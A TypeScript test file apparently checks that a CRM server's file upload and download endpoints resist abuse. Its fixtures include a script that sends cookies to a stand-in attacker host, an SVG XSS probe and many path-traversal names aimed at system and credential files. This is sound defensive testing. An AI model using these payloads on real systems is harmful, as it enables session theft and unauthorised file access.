import { entityOf, RECORD_API, type Attachment } from '@crm/domain';
import fc from 'fast-check';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../app.ts';
import { configFromEnv } from '../../config.ts';
import { createTenant } from '../../seed/tenant.ts';
import { createTestApp, envelope, signedHeaders, type TestApp } from '../../test/app.ts';
import { actor, createRecord, PNG_PIXEL } from '../../test/records.ts';
import { safeFileName } from './storage.ts';

/**
 * Uploads that try to abuse the server (too large, the wrong content under an image's name,
 * names that climb out of the folder) are refused or neutralised, and downloads never reach a
 * file outside the caller's tenant folder.
 */
let t: TestApp;
/** A second instance on the same database and files folder, with a 4 KB upload limit. */
let small: FastifyInstance;
let sales: string;
let tenantId: string;
let otherTenantToken: string;
const SMALL_LIMIT = 4 * 1024;

beforeAll(async () => {
  t = await createTestApp({ crmData: false });
  small = await buildApp({ ...t.app.config, seed: false, maxUploadBytes: SMALL_LIMIT });
  sales = (await t.login('sales')).token;
  tenantId = (await t.signedGet('/sys/sysAccount/getSysAccountInfo', {}, sales)).json().result.id;
  await createTenant(t.app.db, { name: '深圳启明星科技有限公司', admin: { username: 'qiming-admin', realname: '陈总', password: 'Other@2026' } });
  otherTenantToken = (await t.login('qiming-admin', 'Other@2026')).token;
});
afterAll(async () => {
  await small.close();
  await t.close();
});

const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
const JPEG = Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.alloc(32)]);
const GIF = Buffer.from(
  'GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;',
  'latin1',
);
const WEBP = Buffer.concat([Buffer.from('RIFF'), Buffer.from([0x24, 0, 0, 0]), Buffer.from('WEBPVP8 '), Buffer.alloc(24)]);
const HTML = '<html><body><script>document.location="https://evil.example/?"+document.cookie</script></body></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect width="10" height="10"/></svg>';
const EXE = Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), Buffer.alloc(64)]);
const padded = (head: Buffer, size: number) => Buffer.concat([head, Buffer.alloc(size - head.length)]);

interface FilePart {
  field?: string;
  name: string;
  content: Buffer | string;
  type?: string;
}

const BOUNDARY = '----crm-security-boundary';
const MULTIPART = `multipart/form-data; boundary=${BOUNDARY}`;

function form(parts: FilePart[]): Buffer {
  const chunks = parts.flatMap((part) => [
    Buffer.from(
      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${part.field ?? 'file'}"; filename="${part.name}"\r\nContent-Type: ${part.type ?? 'application/octet-stream'}\r\n\r\n`,
    ),
    Buffer.isBuffer(part.content) ? part.content : Buffer.from(part.content),
    Buffer.from('\r\n'),
  ]);
  return Buffer.concat([...chunks, Buffer.from(`--${BOUNDARY}--\r\n`)]);
}

interface UploadOptions {
  biz?: string;
  lang?: string;
  app?: FastifyInstance;
  token?: string;
}

function upload(parts: FilePart | FilePart[], options: UploadOptions = {}): Promise<LightMyRequestResponse> {
  const query: Record<string, string> = options.biz === undefined ? {} : { biz: options.biz };
  const search = new URLSearchParams(query).toString();
  return (options.app ?? t.app).inject({
    method: 'POST',
    url: `/api/sys/common/upload${search ? `?${search}` : ''}`,
    payload: form(Array.isArray(parts) ? parts : [parts]),
    headers: {
      'Content-Type': MULTIPART,
      'X-Access-Token': options.token ?? sales,
      'Accept-Language': options.lang ?? 'zh-CN',
      ...signedHeaders('/sys/common/upload', query),
    },
  });
}

function view(path: string, token = sales): Promise<LightMyRequestResponse> {
  return t.app.inject({ method: 'GET', url: `/api/sys/common/static/${path}?token=${token}` });
}

/** Every file under the files folder, as paths relative to it. */
function storedFiles(): string[] {
  if (!existsSync(t.filesDir)) return [];
  return readdirSync(t.filesDir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name).slice(t.filesDir.length + 1))
    .sort();
}

async function fileRows(): Promise<number> {
  const { count } = await t.app.db
    .selectFrom('files')
    .select((eb) => eb.fn.countAll<number>().as('count'))
    .executeTakeFirstOrThrow();
  return Number(count);
}

/** A refusal leaves neither a file in the folder nor a row behind. */
async function expectNothingStored(refused: () => Promise<LightMyRequestResponse>): Promise<LightMyRequestResponse> {
  const [filesBefore, rowsBefore] = [storedFiles(), await fileRows()];
  const response = await refused();
  expect(response.statusCode).toBeGreaterThanOrEqual(400);
  expect(response.statusCode).toBeLessThan(500);
  expect(storedFiles()).toEqual(filesBefore);
  expect(await fileRows()).toBe(rowsBefore);
  return response;
}

describe('upload size', () => {
  it('is 200 MB unless configured otherwise', async () => {
    expect(configFromEnv({}).app.maxUploadBytes).toBe(200 * 1024 * 1024);
    // The default app refuses a declared 300 MB body at once, naming its limit.
    const declared = await t.app.inject({
      method: 'POST',
      url: '/api/sys/common/upload',
      payload: Readable.from([form([{ name: 'big.zip', content: 'x' }])]),
      headers: {
        'Content-Type': MULTIPART,
        'Content-Length': String(300 * 1024 * 1024),
        'X-Access-Token': sales,
        'Accept-Language': 'en',
        ...signedHeaders('/sys/common/upload', {}),
      },
    });
    expect(declared.statusCode).toBe(413);
    expect(envelope(declared).message).toBe('The file must not be larger than 200 MB');
  });

  it('refuses a file over the limit in the request language and keeps nothing of it', async () => {
    const messages: Record<string, string> = {
      'zh-CN': '文件大小不能超过 4 KB',
      en: 'The file must not be larger than 4 KB',
      'zh-TW': '檔案大小不能超過 4 KB',
    };
    for (const [lang, message] of Object.entries(messages)) {
      const response = await expectNothingStored(() => upload({ name: 'big.pdf', content: Buffer.alloc(SMALL_LIMIT + 1, 'a') }, { app: small, lang }));
      expect(response.statusCode).toBe(413);
      expect(envelope(response).message).toBe(message);
    }
    const atLimit = await upload({ name: 'exact.pdf', content: Buffer.alloc(SMALL_LIMIT, 'a') }, { app: small });
    expect(atLimit.statusCode).toBe(200);
  });

  it('stops reading an over-size upload early instead of taking it all in', async () => {
    let sent = 0;
    const chunk = Buffer.alloc(1024, 'b');
    // 100 MB offered without a declared length: only what the limit needs is ever read.
    async function* body() {
      yield Buffer.from(
        `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="endless.bin"\r\nContent-Type: application/octet-stream\r\n\r\n`,
      );
      for (let i = 0; i < 100 * 1024; i++) {
        sent += chunk.length;
        yield chunk;
      }
    }
    const response = await expectNothingStored(() =>
      small.inject({
        method: 'POST',
        url: '/api/sys/common/upload',
        payload: Readable.from(body()),
        headers: { 'Content-Type': MULTIPART, 'X-Access-Token': sales, ...signedHeaders('/sys/common/upload', {}) },
      }),
    );
    expect(response.statusCode).toBe(413);
    expect(response.headers.connection).toBe('close');
    expect(sent).toBeLessThan(256 * 1024);
  });
});

describe('what an upload is for decides what it accepts, by content', () => {
  it('images: JPG, PNG, GIF, WebP whatever their names; the type served is the content’s', async () => {
    for (const [name, content, type] of [
      ['holiday.jpg', PNG, 'image/png'],
      ['photo.png', JPEG, 'image/jpeg'],
      ['anim.gif', GIF, 'image/gif'],
      ['pic.webp', WEBP, 'image/webp'],
    ] as const) {
      const response = await upload({ name, content, type: 'text/html' }, { biz: 'image' });
      expect(response.statusCode).toBe(200);
      const shown = await view(envelope<string>(response).result);
      expect(shown.headers['content-type']).toBe(type);
      expect(shown.headers['content-disposition']).toMatch(/^inline;/);
    }
  });

  it('images: HTML, SVG and programs under an image’s name are refused with the formats allowed', async () => {
    for (const [name, content] of [
      ['logo.png', HTML],
      ['chart.svg', SVG],
      ['chart.png', SVG],
      ['photo.jpg', EXE],
      ['empty.png', ''],
    ] as const) {
      const response = await expectNothingStored(() => upload({ name, content, type: 'image/png' }, { biz: 'image', lang: 'en' }));
      expect(response.statusCode).toBe(400);
      expect(envelope(response).message).toBe('Only JPG, PNG, GIF, WebP files can be uploaded here (the content decides, not the file name)');
    }
  });

  it('product image: JPG or PNG only, one per upload', async () => {
    expect((await upload({ name: 'p.jpg', content: JPEG }, { biz: 'productImage' })).statusCode).toBe(200);
    expect((await upload({ name: 'p.png', content: PNG }, { biz: 'productImage' })).statusCode).toBe(200);
    for (const lang of ['zh-CN', 'en', 'zh-TW']) {
      const gif = await expectNothingStored(() => upload({ name: 'p.png', content: GIF }, { biz: 'productImage', lang }));
      expect(gif.statusCode).toBe(400);
      expect(envelope(gif).message).toContain('JPG, PNG');
      expect(envelope(gif).message).not.toContain('GIF');
    }
    const two = await expectNothingStored(() =>
      upload(
        [
          { name: 'a.png', content: PNG },
          { name: 'b.png', content: PNG },
        ],
        { biz: 'productImage', lang: 'zh-TW' },
      ),
    );
    expect(two.statusCode).toBe(400);
    expect(envelope(two).message).toBe('每次只能上傳一個檔案');
  });

  it('company logo: an image under 200 KB', async () => {
    expect((await upload({ name: 'logo.png', content: padded(PNG, 150 * 1024) }, { biz: 'logo' })).statusCode).toBe(200);
    const big = await expectNothingStored(() => upload({ name: 'logo.png', content: padded(PNG, 250 * 1024) }, { biz: 'logo' }));
    expect(big.statusCode).toBe(413);
    expect(envelope(big).message).toBe('文件大小不能超过 200 KB');
    const page = await expectNothingStored(() => upload({ name: 'logo.png', content: HTML }, { biz: 'logo' }));
    expect(page.statusCode).toBe(400);
    expect(envelope(page).message).toBe('此处只能上传 JPG, PNG, GIF, WebP 格式的文件（按文件内容判断，而非文件名）');
  });

  it('an unknown purpose is refused naming the known ones', async () => {
    const response = await expectNothingStored(() => upload({ name: 'a.png', content: PNG }, { biz: '../../etc', lang: 'en' }));
    expect(response.statusCode).toBe(400);
    expect(envelope(response).message).toBe('Unknown upload purpose; use one of: attachment, image, productImage, logo, video');
  });

  it('attachments take any content, but what a browser would run is only ever downloaded, never sniffed', async () => {
    for (const [name, content] of [
      ['logo.png', HTML],
      ['chart.svg', SVG],
      ['page.htm', HTML],
      ['tool.pdf', EXE],
    ] as const) {
      const response = await upload({ name, content, type: 'image/png' });
      expect(response.statusCode).toBe(200);
      const shown = await view(envelope<string>(response).result);
      expect(shown.statusCode).toBe(200);
      expect(shown.headers['content-disposition']).toMatch(/^attachment;/);
      expect(shown.headers['content-type']).not.toMatch(/html|svg|image|pdf/);
      expect(shown.headers['x-content-type-options']).toBe('nosniff');
    }
  });
});

describe('file names never leave the tenant folder', () => {
  const TRICKS = [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/etc/shadow',
    'C:\\Windows\\System32\\drivers\\etc\\hosts',
    '%2e%2e%2f%2e%2e%2fcrm.sqlite',
    '..%252f..%252fcrm.sqlite',
    'evil\u0000.png',
    'line\r\nbreak\t.txt',
    '\u202Egnp.exe',
    '．．／．．／crm.sqlite',
    '‥／‥／crm.sqlite',
    '..',
    '....',
    '.htaccess',
    'CON',
    'nul.txt',
    'COM1.tar.gz',
    'LPT9',
    'trailing.dots...',
    `${'很长的文件名'.repeat(60)}.pdf`,
    `${'a'.repeat(300)}.${'x'.repeat(300)}`,
    '𠀀𠀁𠀂'.repeat(40),
  ];

  it('stores every upload as <tenant>/<month>/<random>-<safe name>, inside the tenant folder', async () => {
    for (const trick of TRICKS) {
      const response = await upload({ name: trick, content: 'x' });
      expect(response.statusCode, trick).toBe(200);
      const path = envelope<string>(response).result;
      const [tenant, month, stored, ...rest] = path.split('/');
      expect([tenant, rest]).toEqual([tenantId, []]);
      expect(month).toMatch(/^\d{6}$/);
      expect(stored).toMatch(/^[0-9a-f]{16}-[\p{L}\p{N}][\p{L}\p{N}._-]*$/u);
      expect(Buffer.byteLength(stored!)).toBeLessThanOrEqual(200);
      expect(existsSync(join(t.filesDir, tenantId, month!, stored!)), trick).toBe(true);
      expect((await view(path)).statusCode).toBe(200);
    }
    expect(storedFiles().every((file) => file.startsWith(`${tenantId}/`))).toBe(true);
  });

  it('names the stored file sensibly', () => {
    expect(safeFileName('../../../../etc/passwd')).toBe('passwd');
    expect(safeFileName('C:\\Windows\\System32\\drivers\\etc\\hosts')).toBe('hosts');
    expect(safeFileName('．．／．．／crm.sqlite')).toBe('crm.sqlite');
    expect(safeFileName('%2e%2e%2fcrm.sqlite')).toBe('2e_2e_2fcrm.sqlite');
    expect(safeFileName('....')).toBe('file');
    expect(safeFileName('CON')).toBe('file_CON');
    expect(safeFileName('nul.txt')).toBe('file_nul.txt');
    expect(safeFileName('trailing.dots...')).toBe('trailing.dots');
    expect(safeFileName('报价单 v2.pdf')).toBe('报价单_v2.pdf');
    const long = safeFileName(`${'很长的文件名'.repeat(60)}.pdf`);
    expect(long.endsWith('.pdf')).toBe(true);
    expect(Buffer.byteLength(long)).toBeLessThanOrEqual(150);
  });

  it('gives a safe name for any text at all', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (name) => {
        const safe = safeFileName(name);
        expect(safe).toMatch(/^[\p{L}\p{N}][\p{L}\p{N}._-]*$/u);
        expect(safe).not.toContain('..');
        expect(Buffer.byteLength(safe)).toBeLessThanOrEqual(150);
        expect(safe).not.toMatch(/^(con|prn|aux|nul|com\d|lpt\d)(\.|$)/i);
      }),
      { numRuns: 200 },
    );
  });
});

describe('downloads reach only the caller’s own tenant folder', () => {
  let path: string;
  beforeAll(async () => {
    path = envelope<string>(await upload({ name: 'contract.txt', content: 'tenant A only' })).result;
    // Bait outside the tenant folder: the database and a file of another tenant.
    writeFileSync(join(t.filesDir, 'outside.txt'), 'root:x:0:0 OUTSIDE');
    mkdirSync(join(t.filesDir, 'other-tenant'), { recursive: true });
    writeFileSync(join(t.filesDir, 'other-tenant', 'secret.txt'), 'root:x:0:0 OTHER');
  });

  it('another tenant gets 404 for a file by its exact path', async () => {
    expect((await view(path, otherTenantToken)).statusCode).toBe(404);
    const download = await t.app.inject({
      method: 'GET',
      url: `/api/sys/common/download/${path}`,
      headers: { 'X-Access-Token': otherTenantToken, 'X-Tenant-Id': tenantId },
    });
    expect(download.statusCode).toBe(404);
  });

  it('guessed and encoded paths out of the folder answer 404', async () => {
    const month = path.split('/')[1];
    for (const trick of [
      `${tenantId}/../outside.txt`,
      `${tenantId}/${month}/../../outside.txt`,
      `${tenantId}/%2e%2e/outside.txt`,
      `${tenantId}/..%2foutside.txt`,
      `${tenantId}/%2e%2e%2foutside.txt`,
      `${tenantId}/%252e%252e%252foutside.txt`,
      `${tenantId}/..%255coutside.txt`,
      `${tenantId}/..%5coutside.txt`,
      `${tenantId}/..\\outside.txt`,
      `${tenantId}%2f..%2foutside.txt`,
      `${tenantId}/%00/../outside.txt`,
      `%2fetc%2fpasswd`,
      `/etc/passwd`,
      `${t.filesDir}/outside.txt`,
      `${tenantId}/../other-tenant/secret.txt`,
      'other-tenant/secret.txt',
      'outside.txt',
    ]) {
      for (const route of ['static', 'download']) {
        const response = await t.app.inject({ method: 'GET', url: `/api/sys/common/${route}/${trick}?token=${sales}` });
        expect(response.statusCode, `${route} ${trick}`).toBe(404);
        expect(response.body).not.toContain('root:x');
      }
    }
    // Not even a valid URL (an overlong UTF-8 dot): the router refuses it before any lookup.
    const overlong = await t.app.inject({ method: 'GET', url: `/api/sys/common/static/${tenantId}/%c0%ae%c0%ae/outside.txt?token=${sales}` });
    expect([400, 404]).toContain(overlong.statusCode);
    expect(overlong.body).not.toContain('root:x');
  });

  it('a symbolic link inside the tenant folder does not lead out of it', async () => {
    const month = path.split('/')[1]!;
    const linked = `${tenantId}/${month}/0000000000000000-link.txt`;
    symlinkSync(join(t.filesDir, 'outside.txt'), join(t.filesDir, linked));
    await t.app.db
      .insertInto('files')
      .values({
        id: randomUUID(),
        tenant_id: tenantId,
        user_id: 'x',
        path: linked,
        original_name: 'link.txt',
        mime_type: 'text/plain; charset=utf-8',
        size: 1,
        created_at: new Date().toISOString(),
      })
      .execute();
    const response = await view(linked);
    expect(response.statusCode).toBe(404);
    expect(response.body).not.toContain('root:x');
  });
});

describe('record attachments judge images by the same content check', () => {
  it('counts and shows as images only files whose content is a picture', async () => {
    const seller = await actor(t, 'sales');
    const added = await t.signedPost(RECORD_API.add('crm', 'crmCustomer'), { name: '附件安全客户', level: 'A' }, seller.token);
    expect(added.statusCode).toBe(200);
    const record = { tableName: 'crm_customer', dataId: envelope<{ id: string }>(added).result.id };
    const uploaded = async (name: string, content: Buffer | string) => ({ path: envelope<string>(await upload({ name, content })).result, name, size: 1 });

    // Seven "photos" that are really web pages are files: no image limit applies, none shows as a picture.
    const pages = await Promise.all(Array.from({ length: 7 }, (_, i) => uploaded(`photo${i}.png`, HTML)));
    expect((await t.signedPost(RECORD_API.attachmentAdd, { ...record, files: pages }, seller.token)).statusCode).toBe(200);
    const pictures = await Promise.all([...Array.from({ length: 6 }, (_, i) => uploaded(`scan${i}.pdf`, PNG)), uploaded('notes.txt', 'x')]);
    expect((await t.signedPost(RECORD_API.attachmentAdd, { ...record, files: pictures }, seller.token)).statusCode).toBe(200);
    const listed = envelope<Attachment[]>(await t.signedGet(RECORD_API.attachmentList, record, seller.token)).result;
    expect(
      listed
        .filter((a) => a.kind === 'image')
        .map((a) => a.name)
        .sort(),
    ).toEqual(['scan0.pdf', 'scan1.pdf', 'scan2.pdf', 'scan3.pdf', 'scan4.pdf', 'scan5.pdf']);

    // Seven real pictures, whatever their names, are one too many for one upload.
    const seven = [...pictures.slice(0, 6), await uploaded('report.docx', JPEG)];
    const refused = await t.signedPost(RECORD_API.attachmentAdd, { ...record, files: seven }, seller.token, { 'Accept-Language': 'en' });
    expect(refused.statusCode).toBe(400);
    expect(envelope(refused).message).toBe('At most 6 images per upload');
    expect(envelope<Attachment[]>(await t.signedGet(RECORD_API.attachmentList, record, seller.token)).result).toHaveLength(listed.length);
  });
});

describe('a record’s image field', () => {
  it('holds pictures by content only, with the reason in the request language', async () => {
    const seller = await actor(t, 'sales');
    const followUp = entityOf('crmRecord');
    const photo = { path: envelope<string>(await upload({ name: 'visit.jpg', content: PNG_PIXEL })).result, name: 'visit.jpg', size: PNG_PIXEL.length };
    const page = { path: envelope<string>(await upload({ name: 'visit2.jpg', content: HTML })).result, name: 'visit2.jpg', size: HTML.length };
    const id = await createRecord(t, seller, followUp, new Map(), { images: [photo] });
    const refused = await t.put(RECORD_API.edit('crm', 'crmRecord'), { id, version: 1, images: [photo, page] }, seller.token, { 'Accept-Language': 'zh-TW' });
    expect(refused.statusCode).toBe(422);
    expect(envelope(refused).message).toContain('只能是 JPG、PNG、GIF 或 WebP 圖片');
  });
});
